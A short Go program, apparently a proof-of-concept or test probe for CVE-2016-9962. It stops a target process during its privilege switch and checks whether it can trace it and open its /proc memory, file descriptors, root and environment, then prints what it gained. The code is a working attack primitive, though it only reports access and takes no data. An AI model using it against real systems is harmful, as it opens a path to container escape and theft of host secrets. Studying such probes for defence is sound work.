package main

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

// catch stops process PID at the first moment at which a user may, and then tries
// to read and trace it: between the change of user and the exec it still has all
// of root's descriptors and memory (CVE-2016-9962). It prints the name of the
// program that it stopped, and what it got of it.
func catch(args []string) error {
	if len(args) != 1 {
		return errors.New("catch PID")
	}
	pid, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	for {
		err := unix.Kill(pid, unix.SIGSTOP)
		if err == nil {
			break
		}
		if !errors.Is(err, unix.EPERM) {
			return err
		}
	}
	defer unix.Kill(pid, unix.SIGCONT)
	proc := "/proc/" + args[0]
	for { // it goes on until it comes back from the kernel
		stat, err := os.ReadFile(proc + "/stat")
		if err != nil {
			return err
		}
		if bytes.Contains(stat, []byte(") T ")) {
			break
		}
	}
	comm, err := os.ReadFile(proc + "/comm")
	if err != nil {
		return err
	}
	var got []string
	for name, err := range map[string]error{
		"traced": unix.PtraceSeize(pid), "memory": opens(proc + "/mem"), "descriptors": lists(proc + "/fd"),
		"root": opens(proc + "/root/"), "directory": opens(proc + "/cwd/"), "environment": reads(proc + "/environ"),
	} {
		if err == nil {
			got = append(got, name)
		}
	}
	fmt.Printf("%s: %s\n", strings.TrimSpace(string(comm)), strings.Join(got, " "))
	return nil
}

func opens(name string) error {
	f, err := os.Open(name)
	if err == nil {
		f.Close()
	}
	return err
}

func lists(name string) error {
	all, err := filepath.Glob(name + "/*")
	if err == nil && len(all) == 0 {
		return os.ErrPermission
	}
	return err
}

func reads(name string) error {
	_, err := os.ReadFile(name)
	return err
}
